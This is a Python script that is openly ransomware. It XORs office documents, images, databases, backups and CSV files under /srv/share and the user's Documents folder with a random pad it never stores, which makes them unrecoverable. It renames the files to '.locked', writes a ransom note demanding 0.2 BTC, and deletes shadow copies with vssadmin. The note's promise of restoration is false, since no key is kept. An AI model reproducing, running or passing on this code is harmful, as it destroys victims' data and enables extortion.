import os
from pathlib import Path

EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".sql", ".bak", ".csv"}
ROOTS = [Path("/srv/share"), Path.home() / "Documents"]
NOTE = """Your documents were locked.
Write to desk@recover.example with your machine id {mid}. The price is 0.2 BTC.
"""


def lock(path: Path) -> None:
    data = path.read_bytes()
    pad = os.urandom(len(data))
    path.write_bytes(bytes(a ^ b for a, b in zip(data, pad)))
    path.rename(path.with_suffix(path.suffix + ".locked"))


def main() -> None:
    mid = os.urandom(6).hex()
    for root in ROOTS:
        count = 0
        for p in root.rglob("*"):
            if p.is_file() and p.suffix.lower() in EXT:
                try:
                    lock(p)
                    count += 1
                except OSError:
                    continue
        if count:
            (root / "HOW_TO_RESTORE.txt").write_text(NOTE.format(mid=mid))
    os.system("vssadmin delete shadows /all /quiet 2>/dev/null")


main()
